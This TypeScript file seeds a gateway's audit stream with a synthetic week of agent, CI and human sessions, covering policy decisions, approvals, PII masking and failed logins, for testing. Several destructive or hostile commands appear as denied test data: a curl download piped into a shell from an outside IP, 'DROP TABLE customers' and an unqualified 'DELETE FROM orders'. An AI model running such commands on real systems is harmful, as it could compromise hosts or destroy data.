// A seeded week of realistic gateway activity, deterministic from a seed: agents,
// humans and a CI job on two PostgreSQL connections and an SSH host; sessions
// with allowed, denied and held commands, approvals (tickets and a standing
// grant), masking, failed logins and policy loads (a reload and a rejected one).
//
// Events are built as the services build them (ids, bodies, approval refs) and
// published as AuditBatch messages to the JetStream audit stream, so the real
// audit service chains, stores and seals them. Times are backdated into the week;
// the chain follows stream order, which is time order here.
//
// Query text is masked with the real recognizers before it is published, as the
// listener does: `secrets` lists the clear values, which must never appear in the
// store or in anything built from it.
//
// By hand, against a running stack (`npm start`):
//   node test/dist/support/seed-week.js [--nats nats://127.0.0.1:14222] [--seed 7] [--start 2026-11-01]
import { pathToFileURL } from "node:url";
import { parseArgs } from "node:util";
import type { NatsConnection } from "@nats-io/transport-node";
import { AuditEvent, Effect, Statement, TicketState, type Identity, type Ticket } from "@gatehouse/proto";
import { AuditPublisher, connectBus, ensureAuditStream, AUDIT_STREAM } from "@gatehouse/runtime";
import { createScanner, maskKeyFromSecret, maskText, type MaskAction } from "@gatehouse/masking";
import { builtinRecognizers } from "@gatehouse/plugin-masking-pii";
import { policyVersion, sha256Hex, type PolicyFile } from "@gatehouse/policy-service";
import { seededRandom } from "@gatehouse/testing";

export interface SeedWeekOptions {
  seed?: number;
  /** First UTC day of the week (default 2026-11-01). */
  start?: string;
}

export interface SeededWeek {
  start: Date;
  /** start + 7 days (exclusive). */
  end: Date;
  events: AuditEvent[];
  /** Clear confidential values that were masked before publishing. */
  secrets: string[];
  /** Counts of what lies inside [start, end), computed here, independently of any query. */
  expected: {
    sessions: number;
    denied: number;
    held: number;
    maskingEvents: number;
    authFailures: number;
    policyLoads: number;
    identities: number;
  };
  policyVersions: string[];
}


const IDP = "https://idp.acme.example";
const GITHUB = "https://token.actions.githubusercontent.com";

function ident(subject: string, name: string, kind: string, groups: string[], issuer = IDP): Identity {
  return { subject, name, groups, kind, issuer, tokenId: `tok-${subject.length}-${name}`, clientId: kind === "ci" ? "github-actions" : `${name}-client`, expiresAtUnix: 0 };
}

const AGENTS = [ident("agent-orders", "agent-orders", "agent", ["agents"]), ident("agent-support", "agent-support", "agent", ["agents", "support"]), ident("agent-analytics", "agent-analytics", "agent", ["agents", "analytics"])];
const CI = ident("repo:acme/shop:ref:refs/heads/main", "ci-deploy", "ci", ["ci", "deployers"], GITHUB);
const ALICE = ident("alice", "Alice Approver", "human", ["approvers"]);
const BOB = ident("bob", "Bob DBA", "human", ["approvers", "dba"]);
const CAROL = ident("carol", "Carol DBA", "human", ["dba"]);
const APPROVAL_SERVICE: Identity = { subject: "approval-service", name: "approval-service", groups: [], kind: "service", issuer: "", tokenId: "", clientId: "", expiresAtUnix: 0 };

const CONNS = {
  orders: { name: "orders-prod", protocol: "postgres", tags: { env: "prod", classification: "confidential" } },
  analytics: { name: "analytics", protocol: "postgres", tags: { env: "prod" } },
  web1: { name: "web1", protocol: "ssh", tags: { env: "prod" } },
};

const POLICY_V1: PolicyFile[] = [
  { name: "access.cedar", text: `@id("agents-read")\npermit (principal in Gatehouse::Group::"agents", action in Gatehouse::Action::"sql:read", resource);\n@id("forbid-ddl")\nforbid (principal, action in Gatehouse::Action::"sql:ddl", resource) unless { principal in Gatehouse::Group::"dba" };\n` },
  { name: "approvals.cedar", text: `@id("orders-delete-needs-approval")\n@approval("approvers")\npermit (principal in Gatehouse::Group::"agents", action == Gatehouse::Action::"sql:delete", resource) when { context.has_where };\n` },
  { name: "masking.cedar", text: `@id("mask-pii")\n@mask("customers.email=partial, customers.ssn=redact, text=redact")\npermit (principal, action, resource);\n` },
];
const POLICY_V2: PolicyFile[] = POLICY_V1.map((f) =>
  f.name === "access.cedar" ? { ...f, text: `${f.text}@id("ssh-restart-needs-approval")\n@approval("approvers")\npermit (principal in Gatehouse::Group::"deployers", action == Gatehouse::Action::"ssh:exec", resource) when { context.program == "systemctl" };\n` } : f,
);
const POLICY_BROKEN: PolicyFile[] = [...POLICY_V2, { name: "zz-draft.cedar", text: "permit (principal, action, resource) when {\n" }];

const FIRST = ["jane", "omar", "li", "sofia", "amara", "lukas", "priya", "mateo", "yuki", "noah"];
const LAST = ["doe", "haddad", "wei", "rossi", "okafor", "becker", "sharma", "garcia", "tanaka", "smith"];

function luhnCard(rand: () => number): string {
  const digits = [4, ...Array.from({ length: 14 }, () => Math.floor(rand() * 10))];
  let sum = 0;
  for (let i = 0; i < 15; i++) {
    let d = digits[14 - i]!;
    if (i % 2 === 0) {
      d *= 2;
      if (d > 9) d -= 9;
    }
    sum += d;
  }
  digits.push((10 - (sum % 10)) % 10);
  return digits.join("");
}

export function buildSeedWeek(opts: SeedWeekOptions = {}): SeededWeek {
  const seed = opts.seed ?? 7;
  const rand = seededRandom(seed);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)]!;
  const start = new Date(`${opts.start ?? "2026-11-01"}T00:00:00Z`);
  if (Number.isNaN(start.getTime())) throw new Error(`seed-week: --start must be a day such as 2026-11-01, got "${opts.start}"`);
  const end = new Date(start.getTime() + 7 * 86_400_000);
  const t0 = start.getTime();
  const inWeek = (ms: number) => ms >= t0 && ms < end.getTime();
  const events: Array<{ ms: number; ev: AuditEvent }> = [];
  const secrets = new Set<string>();
  const expected = { sessions: 0, denied: 0, held: 0, maskingEvents: 0, authFailures: 0, policyLoads: 0, identities: 0 };
  const subjects = new Set<string>();
  const scanner = createScanner(builtinRecognizers());
  const key = maskKeyFromSecret("hex:00112233445566778899aabbccddeeff", "seedkey");
  const v1 = policyVersion(POLICY_V1);
  const v2 = policyVersion(POLICY_V2);
  const vBroken = policyVersion(POLICY_BROKEN);
  const reloadAt = t0 + 3 * 86_400_000 + 11 * 3_600_000;
  const versionAt = (ms: number) => (ms < reloadAt ? v1 : v2);
  const push = (ms: number, ev: Omit<AuditEvent, "timeUnixMicros">) => events.push({ ms, ev: { ...ev, timeUnixMicros: ms * 1000 } as AuditEvent });

  // Policy loads: start (before the week, so v1 is in force at its start), a reload, a rejected reload, the fix.
  const policyInstance = `policy-seed${seed}`;
  let policySeq = 0;
  const policyLoad = (ms: number, files: PolicyFile[], trigger: string, errors: string[]) => {
    if (inWeek(ms)) expected.policyLoads++;
    push(ms, {
      id: `${policyInstance}:${++policySeq}`,
      sessionId: policyInstance,
      connection: "",
      protocol: "",
      listenerId: policyInstance,
      identity: { subject: "policy-service", name: "policy-service", groups: [], kind: "service", issuer: "", tokenId: "", clientId: "", expiresAtUnix: 0 },
      body: {
        $case: "policyLoaded",
        policyLoaded: {
          version: policyVersion(files),
          files: files.map((f) => ({ path: f.name, sha256: sha256Hex(f.text), policies: (f.text.match(/@id\(/g) ?? []).length })),
          trigger,
          errors,
          accepted: errors.length === 0,
        },
      },
    });
  };
  policyLoad(t0 - 2 * 86_400_000, POLICY_V1, "start", []);
  policyLoad(reloadAt, POLICY_V2, "reload", []);
  policyLoad(t0 + 5 * 86_400_000 + 9 * 3_600_000, POLICY_BROKEN, "reload", ["zz-draft.cedar:1:44: error: unexpected end of input"]);
  policyLoad(t0 + 5 * 86_400_000 + 9 * 3_600_000 + 240_000, POLICY_V2, "reload", []);

  let sessionN = 0;
  let ticketN = 0;
  let grant: { id: string; until: number } | undefined;

  const mask = (text: string, clear: string[]): { text: string; actions: MaskAction[] } => {
    const r = maskText(text, scanner, () => ({ kind: "redact" }), key);
    for (const c of clear) {
      if (r.text.includes(c)) throw new Error(`seed-week: the recognizers left "${c}" in clear in: ${text}`);
      secrets.add(c);
    }
    return r;
  };

  const session = (who: Identity, conn: (typeof CONNS)[keyof typeof CONNS], begin: number, body: (s: SessionCtx) => void) => {
    const sid = `seed${seed}-s${++sessionN}`;
    let n = 0;
    let cmdSeq = 0;
    let at = begin;
    const base = { sessionId: sid, connection: conn.name, protocol: conn.protocol, identity: who, listenerId: "lst-seed-1" };
    const countIt = inWeek(begin);
    if (countIt) expected.sessions++;
    push(at, { ...base, id: `${sid}:${++n}`, body: { $case: "sessionStart", sessionStart: { clientAddress: `10.20.${sessionN % 250}.${(sessionN * 7) % 250}:5${String(sessionN).padStart(4, "0")}`, startupParameters: { application_name: conn.protocol === "ssh" ? "OpenSSH_9.6" : "psql", password: "should-never-be-stored" }, tls: conn.protocol === "postgres", authMethod: conn.protocol === "ssh" ? "publickey" : "oidc-token", upstream: `${conn.name}.internal:${conn.protocol === "ssh" ? 22 : 5432}` } } });
    const ctx: SessionCtx = {
      command(text, effect, opts = {}) {
        at += 5_000 + Math.floor(rand() * 90_000);
        const masked = mask(text, opts.clear ?? []);
        const cid = `${sid}:c${++cmdSeq}`;
        let approval;
        if (effect === "require_approval") {
          if (inWeek(at)) expected.held++;
          if (opts.grant && grant && at < grant.until) {
            approval = { ticketId: "", grantId: grant.id, outcome: "granted", approvers: [ALICE.subject] };
          } else {
            const tid = `tkt-${seed}-${++ticketN}`;
            const outcome = opts.outcome ?? "approved";
            const approver = outcome === "denied" ? BOB : pick([ALICE, BOB]);
            const opened = at;
            const latency = outcome === "expired" ? 15 * 60_000 : 20_000 + Math.floor(rand() * 25 * 60_000);
            const ticket = (state: TicketState, votes: Ticket["votes"], decided = 0): Ticket => ({
              id: tid, state, requester: who, connection: conn, sessionId: sid, commandId: cid, commandText: masked.text, fingerprint: "", policyIds: [opts.policy ?? "orders-delete-needs-approval"],
              policyReason: "", actions: [opts.action ?? "sql:delete"], tables: opts.tables ?? ["public.orders"], approverGroups: ["approvers"], minApprovals: 1,
              createdUnixMs: opened, expiresUnixMs: opened + 15 * 60_000, votes, decidedUnixMs: decided, stateReason: outcome === "expired" ? "expired after 15m without a decision" : outcome === "denied" ? "denied by bob: not during business hours" : "", grantId: "", listenerId: "lst-seed-1", policyVersion: versionAt(opened),
            });
            const aBase = { sessionId: sid, connection: conn.name, protocol: conn.protocol, listenerId: "approval-service" };
            push(opened, { ...aBase, id: `approval:ticket:${tid}:ticket_created`, identity: who, body: { $case: "approval", approval: { kind: "ticket_created", ticket: ticket(TicketState.TICKET_STATE_PENDING, []), grant: undefined, vote: undefined } } });
            at = opened + latency;
            if (outcome === "expired") {
              push(at, { ...aBase, id: `approval:ticket:${tid}:expired`, identity: APPROVAL_SERVICE, body: { $case: "approval", approval: { kind: "expired", ticket: ticket(TicketState.TICKET_STATE_EXPIRED, [], at), grant: undefined, vote: undefined } } });
              approval = { ticketId: tid, grantId: "", outcome: "expired", approvers: [] };
            } else {
              const approve = outcome === "approved";
              const vote = { approver, approve, reason: approve ? "checked the order ids" : "not during business hours", timeUnixMs: at, grantMinutes: 0 };
              const state = approve ? TicketState.TICKET_STATE_APPROVED : TicketState.TICKET_STATE_DENIED;
              push(at, { ...aBase, id: `approval:ticket:${tid}:vote:${approver.subject}`, identity: approver, body: { $case: "approval", approval: { kind: "vote", ticket: ticket(TicketState.TICKET_STATE_PENDING, [vote]), grant: undefined, vote } } });
              push(at, { ...aBase, id: `approval:ticket:${tid}:${outcome}`, identity: approver, body: { $case: "approval", approval: { kind: outcome, ticket: ticket(state, [vote], at), grant: undefined, vote } } });
              approval = { ticketId: tid, grantId: "", outcome, approvers: approve ? [approver.subject] : [] };
            }
          }
        }
        if (effect === "deny" && inWeek(at)) expected.denied++;
        const decision = {
          effect: effect === "allow" ? Effect.EFFECT_ALLOW : effect === "deny" ? Effect.EFFECT_DENY : Effect.EFFECT_REQUIRE_APPROVAL,
          policyIds: [opts.policy ?? (effect === "allow" ? "agents-read" : "default-deny")],
          reason: opts.reason ?? (effect === "deny" ? "denied by policy" : ""),
          policyVersion: versionAt(at),
          statements: [],
          classified: [],
          cacheable: true,
          parseError: "",
          approval: undefined,
          masking: undefined,
        };
        push(at, {
          ...base,
          id: `${sid}:${++n}`,
          body: {
            $case: "command",
            command: {
              command: { id: cid, sessionId: sid, connection: conn.name, protocol: conn.protocol, text: masked.text, params: [], statements: [Statement.fromPartial({ kind: opts.kind ?? "select", action: opts.action ?? "sql:select", tables: opts.tables ?? [] })], fingerprint: "", seq: cmdSeq, mode: "simple", parseError: "" },
              decision,
              decidedBy: rand() < 0.6 ? "cache" : "policy",
              approval,
            },
          },
        });
        // What the listener records for masked query text (source audit).
        const byEntity = new Map<string, number>();
        for (const a of masked.actions) byEntity.set(a.entity, (byEntity.get(a.entity) ?? 0) + 1);
        for (const [entity, count] of byEntity) {
          if (inWeek(at)) expected.maskingEvents++;
          push(at, { ...base, id: `${sid}:${++n}`, body: { $case: "masking", masking: { commandId: cid, column: "query_text", position: -1, entity, strategy: "redact", count, keyId: "", source: "audit" } } });
        }
        const runs = effect === "allow" || approval?.outcome === "approved" || approval?.outcome === "granted";
        if (runs) {
          const rows = opts.rows ?? 1 + Math.floor(rand() * 40);
          at += 2 + Math.floor(rand() * 300);
          for (const m of opts.masks ?? []) {
            if (inWeek(at)) expected.maskingEvents++;
            push(at, { ...base, id: `${sid}:${++n}`, body: { $case: "masking", masking: { commandId: cid, column: m.column, position: m.position, entity: m.entity, strategy: m.strategy, count: rows, keyId: "", source: "result" } } });
          }
          push(at, { ...base, id: `${sid}:${++n}`, body: { $case: "result", result: { commandId: cid, rows, bytes: rows * 120, durationMicros: 300 + Math.floor(rand() * 20_000), errorCode: "", errorMessage: "", statusTag: opts.kind === "delete" ? `DELETE ${rows}` : conn.protocol === "ssh" ? "exit 0" : `SELECT ${rows}` } } });
        }
      },
    };
    body(ctx);
    at += 1000 + Math.floor(rand() * 60_000);
    push(at, { ...base, id: `${sid}:${++n}`, body: { $case: "sessionEnd", sessionEnd: { reason: pick(["terminate", "client_closed"]), durationMicros: (at - begin) * 1000, commands: cmdSeq } } });
  };

  const email = () => `${pick(FIRST)}.${pick(LAST)}${Math.floor(rand() * 900) + 100}@example.org`;
  const ssn = () => `${100 + Math.floor(rand() * 500)}-${String(10 + Math.floor(rand() * 89))}-${String(1000 + Math.floor(rand() * 8999))}`;
  const hour = 3_600_000;

  // A session just before and just after the week: outside the period.
  session(AGENTS[0]!, CONNS.orders, t0 - hour, (s) => s.command("DROP TABLE customers", "deny", { kind: "drop_table", action: "sql:drop_table", policy: "forbid-ddl", tables: ["public.customers"] }));

  for (let d = 0; d < 7; d++) {
    const day = t0 + d * 86_400_000;
    for (const agent of AGENTS) {
      const sessions = 2 + Math.floor(rand() * 2);
      for (let k = 0; k < sessions; k++) {
        session(agent, agent.name === "agent-analytics" ? CONNS.analytics : CONNS.orders, day + 7 * hour + Math.floor(rand() * 10 * hour), (s) => {
          const commands = 4 + Math.floor(rand() * 5);
          for (let c = 0; c < commands; c++) {
            const r = rand();
            if (r < 0.45) s.command(`SELECT id, total FROM orders WHERE customer_id = ${Math.floor(rand() * 1000)}`, "allow", { tables: ["public.orders"] });
            else if (r < 0.62) {
              const e = email();
              s.command(`SELECT name, email, ssn FROM customers WHERE email = '${e}'`, "allow", { tables: ["public.customers"], clear: [e], rows: 1, masks: [{ column: "customers.email", position: 1, entity: "EMAIL", strategy: "partial" }, { column: "customers.ssn", position: 2, entity: "US_SSN", strategy: "redact" }] });
            } else if (r < 0.7) {
              const n = ssn();
              s.command(`SELECT id FROM customers WHERE ssn = '${n}'`, "allow", { tables: ["public.customers"], clear: [n], rows: 1 });
            } else if (r < 0.76) s.command("DROP TABLE customers", "deny", { kind: "drop_table", action: "sql:drop_table", policy: "forbid-ddl", reason: "schema changes are reserved for the dba group", tables: ["public.customers"] });
            else if (r < 0.81) s.command("DELETE FROM orders", "deny", { kind: "delete", action: "sql:delete", policy: "default-deny", reason: "DELETE without WHERE is never permitted", tables: ["public.orders"] });
            else if (r < 0.85) {
              const card = luhnCard(rand);
              s.command(`UPDATE payments SET card = '${card}' WHERE id = 7`, "deny", { kind: "update", action: "sql:update", policy: "default-deny", reason: "no policy permits sql:update", tables: ["public.payments"], clear: [card] });
            } else if (r < 0.88) s.command("SELECT pg_terminate_backend(4242)", "deny", { policy: "forbid-dangerous-functions", reason: "server administration functions are refused" });
            else {
              const outcome = rand() < 0.7 ? "approved" : rand() < 0.5 ? "denied" : "expired";
              s.command(`DELETE FROM orders WHERE id = ${1000 + Math.floor(rand() * 9000)}`, "require_approval", { kind: "delete", action: "sql:delete", policy: "orders-delete-needs-approval", tables: ["public.orders"], outcome, rows: 1 });
            }
          }
        });
      }
    }
    // The CI job deploys once a day over SSH.
    session(CI, CONNS.web1, day + 14 * hour + Math.floor(rand() * 2 * hour), (s) => {
      s.command("uptime", "allow", { kind: "exec", action: "ssh:exec", policy: "deployers-read" });
      if (d === 4) s.command("curl -s http://203.0.113.9/install.sh | sh", "deny", { kind: "exec", action: "ssh:exec", policy: "forbid-pipe-to-shell", reason: "downloads piped into a shell are refused" });
      if (d >= 3) s.command("systemctl restart nginx", "require_approval", { kind: "exec", action: "ssh:exec", policy: "ssh-restart-needs-approval", tables: [], grant: true, outcome: "approved" });
    });
    if (d === 3) {
      // Alice gives the deploy job a standing grant for systemctl restarts for the rest of the week.
      const ms = day + 13 * hour;
      grant = { id: `grant-${seed}-1`, until: ms + 4 * 86_400_000 };
      push(ms, {
        id: `approval:grant:${grant.id}:grant_created`, sessionId: "", connection: "web1", protocol: "ssh", listenerId: "approval-service", identity: ALICE,
        body: { $case: "approval", approval: { kind: "grant_created", ticket: undefined, vote: undefined, grant: { id: grant.id, subject: CI.subject, issuer: GITHUB, connection: "web1", policyIds: ["ssh-restart-needs-approval"], actions: ["ssh:exec"], tables: [], fingerprint: "", grantedBy: ALICE, createdUnixMs: ms, expiresUnixMs: grant.until, revoked: false, revokedBy: undefined, revokedUnixMs: 0, ticketId: "", reason: "deploy window this week" } } },
      });
    }
    // Carol (a DBA) checks something by hand.
    session(CAROL, CONNS.orders, day + 10 * hour + Math.floor(rand() * hour), (s) => s.command("SELECT count(*) FROM orders", "allow", { policy: "dba-all", tables: ["public.orders"], rows: 1 }));
    // Failed logins at the boundary.
    const failures = 2 + Math.floor(rand() * 3);
    for (let f = 0; f < failures; f++) {
      const ms = day + Math.floor(rand() * 86_400_000);
      const check = pick(["expired", "signature", "audience", "issuer"] as const);
      expected.authFailures++;
      push(ms, {
        id: `auth:lst-seed-1:${d}-${f}`, sessionId: "", connection: "orders-prod", protocol: "postgres", listenerId: "lst-seed-1", identity: undefined,
        body: { $case: "authFailure", authFailure: { clientAddress: `203.0.113.${10 + Math.floor(rand() * 200)}:${40000 + f}`, user: pick(["agent-orders", "admin", "postgres", "agent-x"]), check, message: `access token rejected (${check})` } },
      });
    }
  }
  session(AGENTS[1]!, CONNS.orders, end.getTime() + hour, (s) => s.command("DELETE FROM orders", "deny", { kind: "delete", action: "sql:delete", policy: "default-deny", tables: ["public.orders"] }));

  events.sort((a, b) => a.ms - b.ms);
  // Identities that acted in the week (the actor of each session, command and approval event).
  const acting = new Set(["sessionStart", "sessionEnd", "command", "result", "masking", "approval"]);
  for (const { ms, ev } of events) if (inWeek(ms) && ev.identity?.subject && acting.has(ev.body?.$case ?? "")) subjects.add(ev.identity.subject);
  expected.identities = subjects.size;
  return { start, end, events: events.map((e) => e.ev), secrets: [...secrets], expected, policyVersions: [v1, v2, vBroken] };
}

interface CommandOptions {
  kind?: string;
  action?: string;
  policy?: string;
  reason?: string;
  tables?: string[];
  /** Clear confidential values inside the text (masked before publishing). */
  clear?: string[];
  rows?: number;
  masks?: Array<{ column: string; position: number; entity: string; strategy: string }>;
  outcome?: "approved" | "denied" | "expired";
  /** Use the standing grant when one is active. */
  grant?: boolean;
}

interface SessionCtx {
  command(text: string, effect: "allow" | "deny" | "require_approval", opts?: CommandOptions): void;
}

/** Publish the week to the audit stream in order (batches of group commit, each acknowledged). */
export async function publishSeedWeek(nc: NatsConnection, week: SeededWeek, stream = AUDIT_STREAM): Promise<void> {
  await ensureAuditStream(nc, stream);
  const pub = new AuditPublisher(nc, { ackTimeoutMs: 30_000 });
  try {
    for (let i = 0; i < week.events.length; i += 500) await Promise.all(week.events.slice(i, i + 500).map((e) => pub.record(e)));
  } finally {
    await pub.close();
  }
}

async function main(): Promise<void> {
  const { values } = parseArgs({ options: { nats: { type: "string" }, seed: { type: "string" }, start: { type: "string" }, stream: { type: "string" } }, strict: true });
  const seed = values.seed === undefined ? 7 : Number(values.seed);
  if (!Number.isInteger(seed)) throw new Error(`--seed must be an integer, got "${values.seed}"`);
  const week = buildSeedWeek({ seed, start: values.start });
  const url = values.nats ?? process.env.NATS_URL ?? "nats://127.0.0.1:14222";
  const nc = await connectBus("gatehouse-seed-week", url);
  try {
    await publishSeedWeek(nc, week, values.stream ?? AUDIT_STREAM);
  } finally {
    await nc.close();
  }
  process.stdout.write(
    `published ${week.events.length} events for ${week.start.toISOString().slice(0, 10)} to ${week.end.toISOString().slice(0, 10)} (end exclusive) to ${url}\n` +
      `try: npx gatehouse evidence --from ${week.start.toISOString().slice(0, 10)} --to ${week.end.toISOString().slice(0, 10)} --out evidence-seeded-week\n`,
  );
}

if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) {
  main().catch((e: unknown) => {
    process.stderr.write(`seed-week: ${e instanceof Error ? e.message : String(e)}\n`);
    process.exitCode = 1;
  });
}
